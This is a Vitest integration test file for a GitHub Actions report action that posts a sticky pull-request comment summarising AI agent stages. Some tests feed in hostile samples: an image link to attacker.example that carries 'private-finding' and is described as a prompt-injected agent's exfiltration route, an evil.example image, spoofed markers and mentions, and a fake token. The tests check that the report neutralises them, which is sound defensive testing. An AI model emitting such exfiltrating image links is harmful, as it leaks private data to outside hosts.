import { randomUUID } from 'node:crypto';
import { strToU8, zipSync } from 'fflate';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { RUNNER_STOP_MS } from '../../src/action/shared/step-stop.js';
import { reportLength } from '../../src/core/report/render-report.js';
import {
  endedWithin,
  JOB_SECRETS,
  Job,
  type JobOptions,
  obeyedCommands,
  type StepResult,
  stderrProblems,
} from '../support/actions-runner.js';
import { ensureBuilt } from '../support/build.js';
import { type GitHubApiServer, startGitHubApiServer } from '../support/github-api-server.js';
import { startHttpProxy } from '../support/http-proxy.js';
import {
  images,
  liveClosingKeywords,
  liveMentions,
  liveReferences,
  renderGfm,
  urls,
} from '../support/markdown-oracle.js';
import { quietToolkitLog } from '../support/quiet-toolkit-log.js';
import { type ResultsServer, startResultsServer } from '../support/results-server.js';
import { expressions } from '../support/workflow-language.js';

/**
 * The bundled `report` action (`dist/report/index.js`) run as the runner runs it, after real stage steps
 * stored their records in the local results server; the sticky comment goes to the local GitHub API server.
 */

const REPO = 'octo/demo';
const MARKER = '<!-- baton:report:demo:default -->';
const ACTIONS_BOT = {
  login: 'github-actions[bot]',
  id: 41898282,
  type: 'Bot' as const,
  kind: 'installation' as const,
};
const READ_ONLY_TOKEN = 'ghs_readonlyreadonlyreadonlyreadonly01';

// A failing test shows the log of every step it ran.
quietToolkitLog();

let results: ResultsServer;
let api: GitHubApiServer;
let runBackendId: string;
const jobs: Job[] = [];

beforeAll(async () => {
  ensureBuilt();
  results = await startResultsServer();
});
afterAll(async () => {
  await results.close();
});
beforeEach(async () => {
  runBackendId = randomUUID();
  api = await startGitHubApiServer({
    tokens: {
      [JOB_SECRETS.GITHUB_TOKEN]: ACTIONS_BOT,
      [READ_ONLY_TOKEN]: { ...ACTIONS_BOT, canWrite: false },
    },
    issues: { [REPO]: [7] },
  });
});
afterEach(async () => {
  await api.close();
  for (const job of jobs.splice(0)) await job.cleanup();
});

async function newJob(job: string, options: Partial<JobOptions> = {}): Promise<Job> {
  const created = await Job.create({
    resultsUrl: results.url,
    runBackendId,
    job,
    eventName: 'pull_request',
    event: { action: 'synchronize', number: 7, pull_request: { number: 7, title: 'Fix the date parser' } },
    ...options,
  });
  jobs.push(created);
  return created;
}

function writesHandoff(handoff: unknown): string {
  return `cat > "$BATON_HANDOFF_PATH" <<'BATON_JSON'\n${JSON.stringify(handoff)}\nBATON_JSON\n`;
}

/** Two stages of one run: one that succeeds (with hostile text) and one that fails. */
async function runStages(): Promise<void> {
  const investigate = await newJob('investigate');
  const first = await investigate.uses('stage', {
    prompt: 'Investigate.',
    run: writesHandoff({
      version: 1,
      summary:
        'Root cause found. @maintainers fixes #7 ![x](http://evil.example/?q=1) <!-- baton:report:demo:default -->',
      data: { file: 'src/date.ts' },
      next: { stage: 'fix' },
    }),
  });
  expect(first.exitCode, `${first.stdout}\n${first.stderr}`).toBe(0);
  const fix = await newJob('fix');
  const second = await fix.uses('stage', {
    prompt: 'Fix: {{stages.investigate.summary}}',
    needs: 'investigate',
    run: 'exit 3',
  });
  expect(second.exitCode).toBe(1);
}

/** The `report` action's environment: the API server for the comment. */
const apiEnv = () => ({ GITHUB_API_URL: api.url });

describe('report action (bundled, as the runner runs it)', () => {
  it('posts one sticky comment with every stage, failed ones included, and updates it when run again', async () => {
    await runStages();
    const report = await newJob('report');
    const first = await report.uses('report', {}, apiEnv());
    // Node's deprecation warnings come from toolkit dependencies; nothing else may reach stderr.
    expect(
      first.stderr.split('\n').filter((l) => l.trim() && !/DeprecationWarning|--trace-deprecation/.test(l)),
    ).toEqual([]);
    expect(first.exitCode).toBe(0);

    const comments = api.comments(7, REPO);
    expect(comments).toHaveLength(1);
    const comment = comments[0]!;
    expect(comment.user.login).toBe('github-actions[bot]');
    expect(comment.body.startsWith(`${MARKER}\n\n## ❌ baton report · demo · failure`)).toBe(true);
    expect(comment.body).toContain('| `investigate` | ✅ success |');
    expect(comment.body).toContain('| `fix` | ❌ failure (exit-nonzero) | _no handoff_ |');
    expect(comment.body).toContain('[View run 4242](https://github.com/octo/demo/actions/runs/4242)');
    expect(comment.body.split('baton:report:')).toHaveLength(2);
    expect(liveMentions(comment.body)).toEqual([]);
    expect(liveClosingKeywords(comment.body)).toEqual([]);
    expect(liveReferences(comment.body)).toEqual([]);
    expect(renderGfm(comment.body)).not.toContain('<img');
    expect(first.outputs).toEqual({ 'comment-id': String(comment.id), 'comment-url': comment.html_url });
    expect(first.summary).toBe(`${comment.body}\n`);

    expect(first.stdout).toContain(`report: created comment ${comment.html_url}\n`);

    // The report job run again (a re-run of the same workflow run): the same report, so the comment is
    // left as it is, not duplicated, and the log says so rather than that it was updated.
    const again = await newJob('report');
    const second = await again.uses('report', {}, apiEnv());
    expect(second.exitCode).toBe(0);
    expect(second.outputs).toEqual(first.outputs);
    expect(api.comments(7, REPO)).toHaveLength(1);
    expect(api.requests.filter((r) => r.route === 'POST comments')).toHaveLength(1);
    expect(api.requests.filter((r) => r.route === 'PATCH comment')).toHaveLength(0);
    expect(second.stdout).toContain(`report: comment ${comment.html_url} unchanged\n`);
    expect(second.stdout).not.toContain('updated comment');
  });

  it('updates the same comment from the next workflow run, with that run’s stages and link', async () => {
    await runStages();
    const first = await (await newJob('report')).uses('report', {}, apiEnv());
    expect(first.exitCode).toBe(0);
    const id = first.outputs['comment-id'];

    // Run 4243 of the workflow on the same pull request: its own artifacts, and this time fix passes.
    runBackendId = randomUUID();
    const run2 = { env: { GITHUB_RUN_ID: '4243' } };
    const investigate = await newJob('investigate', run2);
    expect(
      (
        await investigate.uses('stage', {
          prompt: 'Investigate.',
          run: writesHandoff({ version: 1, summary: 'Found it again.' }),
        })
      ).exitCode,
    ).toBe(0);
    const fix = await newJob('fix', run2);
    const fixed = await fix.uses('stage', {
      prompt: 'Fix: {{stages.investigate.summary}}',
      needs: 'investigate',
      run: writesHandoff({ version: 1, summary: 'Fixed on the second run.' }),
    });
    expect(fixed.exitCode).toBe(0);
    const second = await (await newJob('report', run2)).uses('report', {}, apiEnv());
    expect(second.exitCode).toBe(0);
    expect(second.outputs['comment-id']).toBe(id);

    const comments = api.comments(7, REPO);
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body.startsWith(`${MARKER}\n\n## ✅ baton report · demo · success`)).toBe(true);
    expect(comments[0]!.body).toContain('| `fix` | ✅ success | Fixed on the second run. |');
    expect(comments[0]!.body).toContain('[View run 4243](https://github.com/octo/demo/actions/runs/4243)');
    expect(comments[0]!.body).not.toContain('4242');
    expect(api.requests.filter((r) => r.route === 'POST comments')).toHaveLength(1);
    expect(api.requests.filter((r) => r.route === 'PATCH comment')).toHaveLength(1);
    expect(second.stdout).toContain(`report: updated comment ${comments[0]!.html_url}\n`);
  });

  describe('the needs input: the results of the jobs the report job needs', () => {
    // What a job's outputs may carry: an agent's text, never to be read, posted or printed.
    const AGENT_OUTPUT = '@maintainers fixes #9 {{github.token}} ghp_abcdefghijklmnopqrstuvwxyz0123456789';

    /** The input as the runner passes `needs: ${{ toJSON(needs) }}`: GitHub's toJSON, outputs and all. */
    function needsInput(results: Record<string, string>): string {
      const needs = Object.fromEntries(
        Object.entries(results).map(([job, result]) => [job, { result, outputs: { note: AGENT_OUTPUT } }]),
      );
      return expressions.evaluateString('toJSON(needs)', { contexts: { needs } });
    }

    /** Two stages that both succeed: their records alone say success. */
    async function runPassingStages(): Promise<void> {
      for (const [job, inputs] of [
        ['investigate', { prompt: 'Investigate.' }],
        ['fix', { prompt: 'Fix: {{stages.investigate.summary}}', needs: 'investigate' }],
      ] as const) {
        const step = await (await newJob(job)).uses('stage', {
          ...inputs,
          run: writesHandoff({ version: 1, summary: `${job} done.` }),
        });
        expect(step.exitCode, `${step.stdout}\n${step.stderr}`).toBe(0);
      }
    }

    it('heads the comment failure, naming the job, when a job of no stage failed though every stage succeeded', async () => {
      await runPassingStages();
      const needs = needsInput({ investigate: 'success', fix: 'success', 'open-pr': 'failure' });
      const result = await (await newJob('report')).uses('report', { needs }, apiEnv());
      expect(result.exitCode, `${result.stdout}\n${result.stderr}`).toBe(0);
      const comments = api.comments(7, REPO);
      expect(comments).toHaveLength(1);
      const body = comments[0]!.body;
      expect(body.startsWith(`${MARKER}\n\n## ❌ baton report · demo · failure\n`)).toBe(true);
      expect(body).toContain('\nThe run failed: job `open-pr` failed.\n');
      expect(body).toContain('| `investigate` | ✅ success |');
      expect(body).toContain('| `fix` | ✅ success |');
      expect(result.summary).toBe(`${body}\n`);
      // The jobs' outputs are left unread: in neither the comment, the summary nor the log.
      for (const text of [body, result.summary, result.stdout, result.stderr])
        expect(text).not.toContain('ghp_abcdefghijklmnopqrstuvwxyz0123456789');
      expect(body).not.toContain('@maintainers');
    });

    it('names a job of no stage that failed beside a stage that failed, after the failed stage', async () => {
      const investigate = await (await newJob('investigate')).uses('stage', {
        prompt: 'Investigate.',
        run: writesHandoff({ version: 1, summary: 'investigate done.' }),
      });
      expect(investigate.exitCode).toBe(0);
      const fix = await (await newJob('fix')).uses('stage', {
        prompt: 'Fix: {{stages.investigate.summary}}',
        needs: 'investigate',
        run: 'exit 2',
      });
      expect(fix.exitCode).toBe(1);
      const needs = needsInput({ investigate: 'success', fix: 'failure', 'open-pr': 'failure' });
      const result = await (await newJob('report')).uses('report', { needs }, apiEnv());
      expect(result.exitCode, `${result.stdout}\n${result.stderr}`).toBe(0);
      const body = api.comments(7, REPO)[0]!.body;
      expect(body).toContain('\n## ❌ baton report · demo · failure\n');
      expect(body).toContain('| `fix` | ❌ failure (exit-nonzero) |');
      // The stage's own job is said by its row; the job of no stage is named, as it is when no stage failed.
      expect(body).toContain('\nAlso failed: job `open-pr`.\n');
      expect(body).not.toContain('ghp_abcdefghijklmnopqrstuvwxyz0123456789');
    });

    it('heads the comment cancelled when a job was cancelled between stages and none failed', async () => {
      await runPassingStages();
      const needs = needsInput({ investigate: 'success', fix: 'success', 'open-pr': 'cancelled' });
      const result = await (await newJob('report')).uses('report', { needs }, apiEnv());
      expect(result.exitCode, `${result.stdout}\n${result.stderr}`).toBe(0);
      expect(api.comments(7, REPO)[0]!.body).toContain(`\n## 🚫 baton report · demo · cancelled\n`);
    });

    it('heads the comment success when the jobs after the stages were only skipped', async () => {
      await runPassingStages();
      const needs = needsInput({ investigate: 'success', fix: 'success', 'open-pr': 'skipped' });
      const result = await (await newJob('report')).uses('report', { needs }, apiEnv());
      expect(result.exitCode, `${result.stdout}\n${result.stderr}`).toBe(0);
      expect(api.comments(7, REPO)[0]!.body).toContain(`\n## ✅ baton report · demo · success\n`);
    });

    it('refuses a needs input that is not the jobs’ results, says what to pass, and posts nothing', async () => {
      await runPassingStages();
      // The stage action's kind of `needs` (a list of stages), given to the report by mistake.
      const result = await (await newJob('report')).uses('report', { needs: 'investigate, fix' }, apiEnv());
      expect(result.exitCode).toBe(1);
      expect(annotations(result)).toEqual([
        '::error::needs: must be the results of the jobs this job needs, as `needs: ${{ toJSON(needs) }}` passes them; it is not JSON',
      ]);
      expect(api.requests).toEqual([]);
      expect(api.comments(7, REPO)).toEqual([]);
      expect(result.summary).toBe('');
      expect(result.outputFile).toBe('');
    });
  });

  describe('images in handoff text', () => {
    const GITHUB = 'https://user-images.githubusercontent.com/1/chart.png';
    // GitHub Enterprise Cloud with data residency: its own server URL, and artifacts as on github.com (the
    // artifact client refuses a GitHub Enterprise Server's).
    const SERVER = 'https://octocorp.ghe.com/storage/user/1/chart.png';
    // What a prompt-injected agent writes to send private text out when anyone views the report.
    const ELSEWHERE = 'https://attacker.example/p.png?d=private-finding';

    it.each([
      ['github.com', 'https://github.com', [GITHUB]],
      ['another GitHub server', 'https://octocorp.ghe.com', [GITHUB, SERVER]],
    ])(
      'loads no image of another host from the comment or a job summary (on %s)',
      async (_, serverUrl, shown) => {
        const server = { GITHUB_SERVER_URL: serverUrl };
        const stage = await (await newJob('investigate')).uses(
          'stage',
          {
            prompt: 'Investigate.',
            run: writesHandoff({
              version: 1,
              summary: `Chart: ![chart](${ELSEWHERE}) ![ok](${GITHUB}) ![ghe](${SERVER}) ![ref][r]\n\n[r]: ${ELSEWHERE}`,
              data: { chart: `![chart](${ELSEWHERE})` },
            }),
          },
          server,
        );
        expect(stage.exitCode, `${stage.stdout}\n${stage.stderr}`).toBe(0);
        const report = await (await newJob('report')).uses('report', {}, { ...apiEnv(), ...server });
        expect(report.exitCode, `${report.stdout}\n${report.stderr}`).toBe(0);
        const comment = api.comments(7, REPO)[0]!.body;
        for (const [where, markdown] of [
          ['stage summary', stage.summary],
          ['report summary', report.summary],
          ['comment', comment],
        ] as const) {
          expect(new Set(images(markdown)), where).toEqual(new Set(shown));
          // The reader may still follow it: a link that says it is an image.
          expect(markdown, where).toContain(`[image: chart](${ELSEWHERE})`);
          expect(urls(markdown), where).toContain(ELSEWHERE);
        }
      },
    );
  });

  it("never edits a user's comment carrying the marker", async () => {
    await runStages();
    const planted = api.addComment(7, `${MARKER}\nplease merge`, { login: 'mallory', id: 666 }, REPO);
    const result = await (await newJob('report')).uses('report', { mode: 'comment' }, apiEnv());
    expect(result.exitCode).toBe(0);
    const comments = api.comments(7, REPO);
    expect(comments).toHaveLength(2);
    expect(comments.find((c) => c.id === planted.id)!.body).toBe(`${MARKER}\nplease merge`);
    expect(result.summary).toBe('');
  });

  it('writes only the job summary in summary mode, even without a pull request', async () => {
    await runStages();
    const job = await newJob('report', { eventName: 'push', event: { ref: 'refs/heads/main' } });
    const result = await job.uses('report', { mode: 'summary' }, apiEnv());
    expect(result.exitCode).toBe(0);
    expect(result.summary).toContain('| `fix` | ❌ failure (exit-nonzero) |');
    expect(result.outputs).toEqual({ 'comment-id': '', 'comment-url': '' });
    expect(api.requests).toHaveLength(0);
  });

  it('cuts the job summary to its own 1 MiB limit and the comment to 65,536 characters, each note naming its limit', async () => {
    // Six stages of a 4 KB summary and a 20 KB detail each: about 150 KB of report with include-detail.
    const details: string[] = [];
    for (let i = 0; i < 6; i++) {
      const detail = `detail ${i} ${'finding '.repeat(2500)}end of detail ${i}`;
      details.push(detail);
      const stage = await (await newJob(`s${i}`)).uses('stage', {
        prompt: 'Look.',
        run: writesHandoff({ version: 1, summary: `stage ${i} ${'word '.repeat(790)}`, detail }),
      });
      expect(stage.exitCode, stage.stdout).toBe(0);
    }
    const result = await (await newJob('report')).uses(
      'report',
      { mode: 'both', 'include-detail': 'true' },
      apiEnv(),
    );
    expect(result.exitCode, result.stdout).toBe(0);
    // The job summary holds every detail whole, as it is far under 1 MiB.
    expect(result.summary).not.toContain('This report was shortened');
    expect(result.summary).not.toContain('more characters cut');
    for (const detail of details) expect(result.summary).toContain(detail);
    expect(Buffer.byteLength(result.summary)).toBeGreaterThan(140_000);
    // The comment is cut, and says to which limit.
    const [comment] = api.comments(7, REPO);
    expect(reportLength(comment!.body)).toBeLessThanOrEqual(65_536);
    expect(comment!.body).toContain(
      "> This report was shortened to fit GitHub's 65,536-character limit of a comment:",
    );
  });

  it("skips another step's artifact under a baton- name, saying so once in its log, and still reports a broken record", async () => {
    await runStages();
    // Another step of the workflow: actions/upload-artifact with `name: baton-logs`.
    results.addArtifact(runBackendId, 'baton-logs', Buffer.from(zipSync({ 'agent.log': strToU8('hello') })));
    // A record that is there and broken: its record.json is no record.
    results.addArtifact(
      runBackendId,
      'baton-ghost',
      Buffer.from(zipSync({ 'record.json': strToU8('{}'), 'prompt.md': strToU8('p') })),
    );
    const result = await (await newJob('report')).uses('report', { mode: 'both' }, apiEnv());
    expect(result.exitCode, result.stdout).toBe(0);
    const [comment] = api.comments(7, REPO);
    for (const text of [comment!.body, result.summary]) {
      expect(text).not.toContain('logs');
      expect(text).toContain('> 1 record of this run could not be read and is not in this report:');
      expect(text).toContain('`ghost` attempt 1: artifact baton-ghost: record.json is not a baton record');
    }
    // Said once, by the report, and as no warning or error (the artifact client logs its download too).
    const lines = result.stdout.split('\n');
    expect(lines.filter((line) => /^::(warning|error)::.*logs/.test(line))).toEqual([]);
    expect(lines.filter((line) => line.startsWith('report:') && line.includes('baton-logs'))).toEqual([
      "report: skipped artifact baton-logs: it holds no record.json, so it is not a baton record but another step's upload; names that start with baton- are baton's: give your own artifacts other names",
    ]);
    expect(result.stdout).toMatch(/::warning::record of stage ghost attempt 1 could not be read: /);
    expect(result.stdout).toContain('report: 2 records of run');
  });

  it('fails clearly when the event has no pull request or issue, and posts nothing', async () => {
    await runStages();
    const job = await newJob('report', { eventName: 'push', event: { ref: 'refs/heads/main' } });
    const result = await job.uses('report', { mode: 'comment' }, apiEnv());
    expect(result.exitCode).toBe(1);
    expect(result.stdout).toContain(
      '::error::issue-number: there is no issue or pull request to comment on: the triggering event (push) is not about one. Set the issue-number input, or use mode: summary',
    );
    expect(api.requests).toHaveLength(0);
    expect(result.summary).toBe('');
  });

  it('refuses a bad mode before reading anything', async () => {
    const result = await (await newJob('report')).uses('report', { mode: 'everything' }, apiEnv());
    expect(result.exitCode, `${result.stdout}\n${result.stderr}`).toBe(1);
    expect(result.stdout).toContain('::error::mode: must be one of comment, summary, both; got "everything"');
    expect(api.requests).toHaveLength(0);
  });

  it('explains the permissions the job needs on 403, after writing the summary', async () => {
    await runStages();
    const result = await (await newJob('report')).uses(
      'report',
      { 'github-token': READ_ONLY_TOKEN },
      apiEnv(),
    );
    expect(result.exitCode).toBe(1);
    expect(result.stdout).toContain(
      '::error::github-token: GitHub refused to create a comment on #7 in octo/demo (403: Resource not accessible by integration)',
    );
    expect(result.stdout).toContain('permissions:%0A    issues: write%0A    pull-requests: write');
    expect(result.summary).toContain('baton report · demo');
    expect(api.comments(7, REPO)).toHaveLength(0);
  });

  it('says a pull request from a fork gets a read-only token, and points to mode: summary, not permissions', async () => {
    const event = {
      action: 'synchronize',
      number: 7,
      pull_request: {
        number: 7,
        title: 'Fix the date parser',
        head: { repo: { fork: true, full_name: 'someone/demo' } },
        base: { repo: { fork: false, full_name: REPO } },
      },
    };
    const investigate = await newJob('investigate', { event });
    await investigate.uses('stage', { prompt: 'x', run: writesHandoff({ version: 1, summary: 'one' }) });
    const result = await (await newJob('report', { event })).uses(
      'report',
      { 'github-token': READ_ONLY_TOKEN },
      apiEnv(),
    );
    expect(result.exitCode).toBe(1);
    const errors = result.stdout.split('\n').filter((line) => line.startsWith('::error::'));
    expect(errors).toHaveLength(1);
    expect(errors[0]).toContain(
      'GitHub refused to create a comment on #7 in octo/demo (403: Resource not accessible by integration). This run is for a pull request from a fork (someone/demo)',
    );
    expect(errors[0]).toContain('mode: summary');
    expect(errors[0]).not.toContain('issues: write');
    expect(result.summary).toContain('baton report · demo');
  });

  it('names the issue number on 404', async () => {
    await runStages();
    const result = await (await newJob('report')).uses('report', { 'issue-number': '99' }, apiEnv());
    expect(result.exitCode).toBe(1);
    expect(result.stdout).toContain(
      '::error::issue-number: issue or pull request #99 was not found in octo/demo (404)',
    );
  });

  // The bundle requires undici (dist/vendor/undici.cjs) only when octokit sends its first request: its
  // fetch for every request, its ProxyAgent behind a proxy (scripts/build.mjs, undici-on-first-use).
  it('reaches the API through the runner’s HTTP_PROXY, with its credentials', async () => {
    await runStages();
    const upstream = new URL(api.url);
    const proxy = await startHttpProxy({ host: upstream.hostname, port: Number(upstream.port) });
    try {
      const result = await (await newJob('report')).uses(
        'report',
        {},
        {
          // A host that does not resolve (`.test` is reserved): only the proxy reaches the API server.
          GITHUB_API_URL: 'http://api.github.test',
          HTTP_PROXY: proxy.url.replace('http://', 'http://runner:s3cret@'),
        },
      );
      expect(result.exitCode, result.stdout).toBe(0);
      expect(api.comments(7, REPO)).toHaveLength(1);
      expect(proxy.tunnels.length).toBeGreaterThan(0);
      for (const tunnel of proxy.tunnels)
        expect(tunnel).toEqual({
          target: 'api.github.test:80',
          authorization: `Basic ${Buffer.from('runner:s3cret').toString('base64')}`,
        });
    } finally {
      await proxy.close();
    }
  });

  it('says why the comment failed in one line when GitHub answers with an HTML error page', async () => {
    await runStages();
    const page = `<!DOCTYPE html><html><head><title>Unicorn! &middot; GitHub</title><style>${'body{}'.repeat(1400)}</style></head><body><p>We had issues producing the response to your request.</p></body></html>`;
    // The list is tried four times (octokit's retries) before the step gives up.
    api.fault('GET comments', ...Array(4).fill({ kind: 'html', status: 502, body: page }));
    const result = await (await newJob('report')).uses('report', {}, apiEnv());
    expect(result.exitCode).toBe(1);
    expect(result.stdout.split('\n').filter((line) => line.startsWith('::error::'))).toEqual([
      '::error::could not post the report comment on #7 in octo/demo: GET /repos/octo/demo/issues/7/comments answered HTTP 502: an HTML page, “Unicorn! · GitHub”%0A  re-run the job; if it fails again, check GitHub’s status at https://www.githubstatus.com',
    ]);
    expect(result.stdout).not.toContain('<style>');
    // The summary was written before the comment was tried.
    expect(result.summary).toContain(MARKER);
  });

  it('says GITHUB_API_URL is missing, rather than failing to reach api.github.com', async () => {
    await runStages();
    const result = await (await newJob('report')).uses('report', {}, { GITHUB_API_URL: '' });
    expect(result.exitCode).toBe(1);
    expect(result.stdout.split('\n').filter((line) => line.startsWith('::error::'))).toEqual([
      '::error::GITHUB_API_URL is not set, so the report comment has no GitHub API to go to: the runner sets it for every step of a job. Run this as a step of a GitHub Actions job, or use mode: summary for the job summary alone',
    ]);
    expect(api.requests).toEqual([]);
  });

  it('keeps the tokens out of the comment and the summary', async () => {
    await runStages();
    const result = await (await newJob('report')).uses('report', {}, apiEnv());
    expect(result.exitCode).toBe(0);
    const body = api.comments(7, REPO)[0]!.body;
    for (const secret of Object.values(JOB_SECRETS)) {
      expect(body).not.toContain(secret);
      expect(result.summary).not.toContain(secret);
    }
  });
});

/**
 * How long a stopped step is waited for: the runner kills it 10 s after its first signal, and this leaves
 * room for a loaded machine. An upper bound on the wait, not a measure: a step that ran to its own deadline
 * (8.5 s) says so in its error, which the tests below would see.
 */
const STOPPED_STEP_WAIT_MS = RUNNER_STOP_MS.kill + 20_000;

/** The warnings and errors a step's log gives the runner. */
function annotations(result: StepResult): string[] {
  return obeyedCommands(result.stdout).filter((line) => /^::(?:error|warning)/.test(line));
}

const stopped = (signal: string) =>
  `the runner sent ${signal} (the job was cancelled, or the step ran past its timeout-minutes)`;

describe('report action stopped by the runner (cancel, timeout-minutes)', () => {
  it.each(['SIGINT', 'SIGTERM'] as const)(
    'on %s while it downloads the records, posts nothing, writes no summary or outputs, and ends by itself',
    async (signal) => {
      await runStages();
      // The download of one record is held: the step is stopped while it reads the records.
      results.inject({ kind: 'blob-get', times: 1, mode: 'hang', name: 'baton-fix' });
      const downloading = results.next('blob-get', 'baton-fix');
      const step = await (await newJob('report')).start('report', {}, apiEnv());
      await downloading;
      step.kill(signal);
      const result = await endedWithin(step, STOPPED_STEP_WAIT_MS);
      expect(result.signal).toBeNull();
      expect(result.exitCode).toBe(1);
      expect(annotations(result)).toEqual([
        `::warning::report: cancelled: ${stopped(signal)}; nothing was posted: no comment was created or updated, and the job summary was not written`,
      ]);
      expect(api.requests).toEqual([]);
      expect(api.comments(7, REPO)).toEqual([]);
      expect(result.fileCommands.GITHUB_STEP_SUMMARY).toBe('');
      expect(result.outputFile).toBe('');
      expect(stderrProblems(result.stderr)).toBe('');
    },
  );

  it('on SIGINT while it looks for its comment, posts none and leaves the job summary it wrote whole', async () => {
    await runStages();
    api.fault('GET comments', { kind: 'hold' });
    const step = await (await newJob('report')).start('report', {}, apiEnv());
    await api.held();
    step.kill('SIGINT');
    const result = await endedWithin(step, STOPPED_STEP_WAIT_MS);
    expect(result.signal).toBeNull();
    expect(result.exitCode).toBe(1);
    expect(annotations(result)).toEqual([
      `::warning::report: cancelled: ${stopped('SIGINT')}; no comment was created or updated; the job summary was written`,
    ]);
    expect(api.requests.map((r) => r.route)).not.toContain('POST comments');
    expect(api.comments(7, REPO)).toEqual([]);
    expect(result.outputFile).toBe('');
    // The summary is the whole report, as a step that was not stopped writes it.
    const whole = await (await newJob('report')).uses('report', { mode: 'summary' }, apiEnv());
    expect(whole.exitCode).toBe(0);
    expect(result.summary).toContain(MARKER);
    expect(result.summary).toBe(whole.summary);
  });

  it('on SIGINT after its comment was created (the answer lost), leaves the one comment, sets the outputs and says so', async () => {
    await runStages();
    // The create is applied, and its connection cut: the step waits before it looks whether it was.
    api.fault('POST comments', { kind: 'apply-then-drop' });
    const step = await (await newJob('report')).start('report', {}, apiEnv());
    await step.waitForOutput('checking whether it was created');
    step.kill('SIGINT');
    const result = await endedWithin(step, STOPPED_STEP_WAIT_MS);
    expect(result.signal).toBeNull();
    expect(result.exitCode).toBe(0);
    const comments = api.comments(7, REPO);
    expect(comments).toHaveLength(1);
    const comment = comments[0]!;
    expect(api.requests.filter((r) => r.route === 'POST comments')).toHaveLength(1);
    expect(result.stdout).toContain(
      `report: ${stopped('SIGINT')} while the comment was being created; it was created, and is left as it is: ${comment.html_url}`,
    );
    expect(annotations(result).filter((line) => line.includes('cancelled:'))).toEqual([]);
    expect(result.outputs).toEqual({ 'comment-id': String(comment.id), 'comment-url': comment.html_url });
    expect(result.summary).toBe(`${comment.body}\n`);
  });

  it('ends before the runner’s kill when GitHub does not answer the comment’s create, saying it may have been created', async () => {
    await runStages();
    api.fault('POST comments', { kind: 'hold' });
    const step = await (await newJob('report')).start('report', {}, apiEnv());
    await api.held();
    step.kill('SIGINT');
    const result = await endedWithin(step, STOPPED_STEP_WAIT_MS);
    expect(result.signal).toBeNull();
    expect(result.exitCode).toBe(1);
    expect(annotations(result)).toEqual([
      `::error::report: ${stopped('SIGINT')}; the comment on #7 may have been created: GitHub did not answer within the 8.5 s a stopped step has; look for it there; the job summary was written`,
    ]);
    expect(result.outputFile).toBe('');
    // Held, never applied: the step ended without it.
    expect(api.comments(7, REPO)).toEqual([]);
  });
});
